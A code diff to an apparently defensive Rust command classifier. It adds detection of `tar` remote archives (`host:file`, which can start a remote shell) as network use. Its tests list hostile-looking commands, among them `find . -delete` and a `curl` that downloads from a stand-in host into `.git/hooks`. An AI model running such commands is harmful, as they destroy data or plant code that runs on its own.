@@ -134,10 +134,14 @@ fn find(table: &'static [Program], name: &str) -> Option<&'static Program> {
 
 fn is_network(base: &str, arguments: &[String]) -> bool {
     // Global options before the sub-command (`git -C x push`) are passed over by taking any word as one.
-    NETWORK.iter().any(|entry| match entry.split_once(' ') {
+    let listed = NETWORK.iter().any(|entry| match entry.split_once(' ') {
         None => *entry == base,
         Some((program, sub)) => program == base && arguments.iter().take(8).any(|word| word == sub),
-    }) || (base == "yarn" && arguments.iter().all(|word| word.starts_with('-')))
+    });
+    // `yarn` alone installs; an archive `host:file` makes tar start a remote shell.
+    listed
+        || (base == "yarn" && arguments.iter().all(|word| word.starts_with('-')))
+        || (base == "tar" && arguments.iter().any(|word| word.contains(':')))
 }
 
 /// Files and hosts that a download program names. The list of options need not be complete: the class is
@@ -642,6 +646,7 @@ mod tests {
         }
         check("find . -delete", Class::Shell, &[]);
         check("npm install", Class::Network, &[]);
+        check("tar tf host:a.tar", Class::Network, &[]);
         check("git push origin main", Class::Network, &[]);
         check(
             "curl -o .git/hooks/x http://a.example:8080/y",
